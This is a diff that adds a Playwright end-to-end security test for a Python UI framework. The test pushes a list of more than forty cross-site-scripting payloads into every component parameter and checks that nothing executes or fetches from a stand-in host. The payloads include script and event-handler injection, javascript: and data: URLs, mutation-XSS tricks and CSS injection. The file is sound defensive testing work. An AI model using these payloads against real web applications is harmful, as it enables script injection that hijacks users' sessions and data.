@@ -1,0 +1,301 @@
+"""The sink sweep: hostile text in every parameter of every component runs nothing in the page.
+
+Whatever a payload would run sets `pwned`, opens a dialog or asks the host `canary.test` for something that runs.
+"""
+
+from __future__ import annotations
+
+from collections.abc import Callable, Iterator
+from typing import Any
+
+import param
+import pytest
+from playwright.sync_api import Page, expect
+
+import transom as tr
+from tests.e2e import everything
+from tests.e2e.live import Live, Show, Shown, live_server, shower, until
+from transom.components.component import Component
+from transom.components.info import class_info
+
+RUN = "window.pwned?.(1)"
+HOST = "//canary.test"
+PAYLOADS = [
+    f"<script>{RUN}</script>",
+    f"<script src={HOST}/a.js></script>",
+    f"<ScRiPt/x>{RUN}</sCrIpT>",
+    f"<img src=x onerror={RUN}>",
+    f'<img src="x" onerror="{RUN}">',
+    f"<svg onload={RUN}>",
+    f"<svg><script>{RUN}</script></svg>",
+    f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s>',
+    f'<svg><set attributeName=href to="javascript:{RUN}"/><a id=x>x</a></svg>',
+    f'<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror={RUN}/></svg>#x">',
+    f"<body onload={RUN}>",
+    f'<details open ontoggle="{RUN}">x</details>',
+    f'<input autofocus onfocus="{RUN}">',
+    f'<video><source onerror="{RUN}"></video>',
+    f'<audio src=x onerror="{RUN}"></audio>',
+    f'<iframe src="javascript:parent.{RUN}"></iframe>',
+    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
+    f"<iframe src={HOST}/frame></iframe>",
+    f'<object data="javascript:{RUN}"></object>',
+    f"<embed src={HOST}/e.swf>",
+    f'<base href="{HOST}/"><script src=/b.js></script>',
+    f'<meta http-equiv="refresh" content="0;url=javascript:{RUN}">',
+    f"<link rel=stylesheet href={HOST}/c.css>",
+    f'<style>@import "{HOST}/d.css";</style>',
+    f'<form action="javascript:{RUN}"><button id=go>go</button></form>',
+    f'<a href="javascript:{RUN}">x</a>',
+    f'<a href="&#106;ava\tscript:{RUN}">x</a>',
+    f'<math><a xlink:href="javascript:{RUN}">x</a></math>',
+    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
+    f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>">',
+    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
+    f"<template><script>{RUN}</script></template>",
+    f'<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>',
+    f'"><img src=x onerror={RUN}>',
+    f"' onmouseover='{RUN}' x='",
+    f'" autofocus onfocus="{RUN}" x="',
+    f"</title></textarea></style></script><script>{RUN}</script>",
+    f"javascript:{RUN}//",
+    f"  JaVa\nScRiPt:{RUN}",
+    f"data:text/html,<script>{RUN}</script>",
+    f"`-{RUN}-`${{{RUN}}}{{{{{RUN}}}}}<%= {RUN} %>",
+    f"red;}} body {{ background: url(javascript:{RUN}) }} x {{ a:b",
+    f"expression({RUN}); behavior: url({HOST}/x.htc); -moz-binding: url({HOST}/x.xml#x)",
+    "\u2028\u2029\x00<\x00script>window.pwned(1)</script>",
+    "__proto__",
+    "constructor",
+]  # fmt: skip
+
+MARKUP = {("HTML", "object"), ("Markdown", "object")}
+"""Where markup is wanted: it may show pictures, and nothing else of another host."""
+UNTYPED = {"value", "object"}
+"""Parameters of any type that take text."""
+
+
+def strings_of(cls: type[Component]) -> list[str]:
+    """Names of synced parameters into which text can be put, by itself or in a list or a dict."""
+    info = class_info(cls)
+    found = []
+    for name in sorted(info.synced - {"children", "natural", "margin", "tags", "align"}):
+        kind = info.parameters[name]
+        text = isinstance(kind, param.String | param.List | param.Dict)
+        if text or (type(kind) is param.Parameter and name in UNTYPED):
+            found.append(name)
+    if issubclass(cls, tr.widgets.Select):
+        found.append("options")
+    return found
+
+
+def hostile(component: Component, name: str, text: str) -> Any:
+    """The value that puts `text` into a parameter, wherever text can stand in it."""
+    match name:
+        case "styles":
+            return {"color": text, "background": text, text: "red", "--x": text}
+        case "error":
+            return dict.fromkeys(("title", "message", "detail", "id"), text)
+        case "groups":
+            return {text: [text, "other"]}
+        case "options" | "labels" | "names" | "css_classes" | "stylesheets":
+            return [text] * (len(component.children) if isinstance(component, tr.Tabs) else 1)
+        case "object" if isinstance(component, tr.pane.ParamFunction):
+            return lambda: text
+        case "object" if isinstance(component, tr.pane.SVG):
+            return f'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">{text}<script>{RUN}</script></svg>'
+        case "object" if isinstance(component, tr.pane.JPG):
+            return f"http:{HOST}/picture.jpg?{text}"
+        case _:
+            return text
+
+
+Target = tuple[Component, str]
+
+
+def targets() -> list[Target]:
+    """One component for each class and parameter."""
+    made: list[Target] = []
+    for cls in everything.exported():
+        for name in strings_of(cls):
+            made.append((fresh(cls), name))
+    return made
+
+
+def fresh(cls: type[Component]) -> Component:
+    if cls is tr.Tabs:
+        return tr.Tabs(("One", tr.pane.Str("x")), ("Two", tr.pane.Str("y")), closable=True)
+    if cls is tr.widgets.Select:
+        return tr.widgets.Select(options=["x"])
+    if issubclass(cls, tr.pane.ImageBase):
+        return cls(everything.PIXEL) if cls is tr.pane.GIF else cls(None)
+    if issubclass(cls, tr.layout.ListLayout):
+        return cls(tr.pane.Str("inside"))
+    return cls()
+
+
+class Watch:
+    """Notes everything that must not happen."""
+
+    def __init__(self, shown: Shown) -> None:
+        self.ran: list[str] = []
+        page = shown.page
+        page.expose_function("pwned", lambda *_: self.ran.append("a script"))
+        page.on("dialog", lambda dialog: (self.ran.append(f"dialog {dialog.message}"), dialog.dismiss()))
+        page.on("request", lambda request: self._request(request.url, request.resource_type))
+        page.on("framenavigated", lambda frame: self.ran.append(f"navigation to {frame.url}"))
+        page.context.on("page", lambda other: self.ran.append(f"window {other.url}"))
+
+    def _request(self, url: str, kind: str) -> None:
+        # A picture of another host may be shown; nothing else may come from there.
+        if "canary.test" in url and kind != "image":
+            self.ran.append(f"{kind} {url}")
+
+
+LOST = r"ERR_|Failed to load resource"
+"""Allowed in the console: pictures that are not there. Anything else the sweep would have to explain."""
+
+
+@pytest.fixture(scope="module")
+def live() -> Iterator[Live]:
+    with live_server() as live:
+        yield live
+
+
+@pytest.fixture
+def show(live: Live, open_page: Callable[..., Page]) -> Show:
+    return shower(live, open_page)
+
+
+def test_the_sweep_reaches_all_there_is() -> None:
+    names = {(type(component).__name__, name) for component, name in targets()}
+    assert len(PAYLOADS) >= 40
+    assert {cls for cls, _ in names} == {cls.__name__ for cls in everything.exported()}
+    for wanted in (
+        ("Button", "icon"), ("Tabs", "names"), ("Select", "groups"), ("Select", "options"), ("PNG", "link_url"),
+        ("JPG", "caption"), ("HTML", "object"), ("Markdown", "object"), ("Str", "error"), ("Card", "title"),
+        ("Column", "styles"), ("Row", "css_classes"), ("IntSlider", "format"), ("Progress", "bar_color"),
+        ("TextInput", "placeholder"), ("StaticText", "value"), ("Code", "language"), ("Spacer", "description"),
+    ):  # fmt: skip
+        assert wanted in names
+
+
+def test_the_watch_sees_what_runs(show: Show) -> None:
+    """Markup that somebody has vouched for may do such things; the sweep would notice."""
+    shown = show(lambda: tr.Column(tr.pane.HTML("", sanitize_html=False)), allow=LOST, bypass_csp=True)
+    watch = Watch(shown)
+    shown.root[0].object = f"<img src=x onerror={RUN}><link rel=stylesheet href={HOST}/c.css><iframe srcdoc=x></iframe>"
+    shown.page.wait_for_timeout(200)
+    for seen in ("a script", "stylesheet http", "navigation"):
+        assert [each for each in watch.ran if each.startswith(seen)], watch.ran
+
+
+def test_the_policy_stops_what_somebody_has_vouched_for(show: Show) -> None:
+    shown = show(lambda: tr.Column(tr.pane.HTML("", sanitize_html=False)), allow=f"{LOST}|Content Security Policy")
+    watch = Watch(shown)
+    shown.root[0].object = f"<img src=x onerror={RUN}><script>{RUN}</script>"
+    shown.page.wait_for_timeout(200)
+    assert watch.ran == []
+
+
+@pytest.mark.timeout(120)
+def test_nothing_runs_whatever_is_set(show: Show) -> None:
+    """Each payload on everything at once; changes reach what creation does, and the other way round."""
+    made: list[Target] = []
+    mark = tr.widgets.StaticText(value="begun")
+
+    def make() -> Any:
+        made[:] = targets()
+        return tr.Column(mark, tr.Column(), *(component for component, _ in made))
+
+    # Without the content security policy, which would stop most of it too: this is the first line of defence.
+    shown = show(make, allow=LOST, bypass_csp=True)
+    watch = Watch(shown)
+    refused = 0
+    for number, text in enumerate(PAYLOADS):
+        refused = 0
+        for component, name in made:
+            try:
+                setattr(component, name, hostile(component, name, text))
+            except (ValueError, TypeError):  # not a value of this parameter
+                refused += 1
+        shown.root[1].objects = [
+            born for component, name in made[number % 3 :: 3] for born in again(component, name, text)
+        ]
+        shown.session.tree.set_page(title=text, lang=text)
+        shown.session.notify({"kind": "notify", "id": text, "level": text, "text": text, "duration": 0, "detail": text})
+        mark.value = number
+        shown.page.wait_for_function(
+            "(text) => document.querySelector('main output').textContent === text", arg=str(number)
+        )
+        assert watch.ran == [], (number, text)
+    poke(shown.page)
+    shown.page.wait_for_timeout(300)
+    assert watch.ran == []
+    assert refused < len(made) / 10
+    assert shown.page.locator("a[href^='javascript' i]").count() == 0
+
+
+def again(component: Component, name: str, text: str) -> list[Component]:
+    """A component that has the value from its beginning."""
+    kind = type(component)
+    value = hostile(component, name, text)
+    try:
+        if kind is tr.Tabs and name == "names":
+            return [tr.Tabs((text, tr.pane.Str("x")), closable=True)]
+        return [kind(**{name: value})]
+    except (ValueError, TypeError):
+        return []
+
+
+def poke(page: Page) -> None:
+    """Do what a user may do to whatever there is, to set off what waits for it."""
+    page.evaluate(
+        """() => {
+            for (const el of document.querySelectorAll("body *")) {
+                for (const name of ["mouseover", "focus", "click", "toggle", "load", "error"]) {
+                    if (name !== "click" || el.matches("a, button, summary")) {
+                        if (!(el.matches("a[target=_blank]") && name === "click"))
+                            el.dispatchEvent(new Event(name, {bubbles: true, cancelable: true}));
+                    }
+                }
+            }
+        }"""
+    )
+
+
+@pytest.mark.parametrize(
+    "link", ["javascript:window.pwned(1)", " \tJAVASCRIPT:window.pwned(1)", "data:text/html,x", "vbscript:x", "//"]
+)
+def test_no_link_leads_to_a_script(show: Show, link: str) -> None:
+    shown = show(lambda: tr.Column(tr.pane.GIF(everything.PIXEL, alt_text="x", link_url=link)))
+    expect(shown.page.locator("main img")).to_be_visible()
+    assert shown.page.locator("main a").count() == 0
+
+
+def test_the_server_cannot_be_made_to_send_the_page_to_a_script(show: Show) -> None:
+    shown = show(lambda: tr.Column(tr.widgets.StaticText(value="here")), allow="not a web address")
+    watch = Watch(shown)
+    shown.session.notify({"kind": "goto", "url": f"javascript:{RUN}"})
+    text = shown.root[0]
+    text.value = "still here"
+    expect(shown.page.locator("main output")).to_have_text("still here")
+    assert watch.ran == []
+
+
+def test_what_a_user_types_stays_text(show: Show) -> None:
+    def make() -> Any:
+        field = tr.widgets.TextInput(label="Say")
+        said = tr.bind(lambda text: text, field.param.value_input)
+        return tr.Column(
+            field, said, tr.pane.Str(field.param.value_input), tr.bind(tr.pane.HTML, field.param.value_input)
+        )
+
+    page, field, *_ = shown = show(make, allow=LOST, bypass_csp=True)
+    watch = Watch(shown)
+    for text in PAYLOADS[3:6]:
+        page.get_by_label("Say").fill(text)
+        until(lambda text=text: field.value_input == text)  # type: ignore[misc]
+        expect(page.locator(".tr-str")).to_have_text(text)
+    page.wait_for_timeout(100)
+    assert watch.ran == []
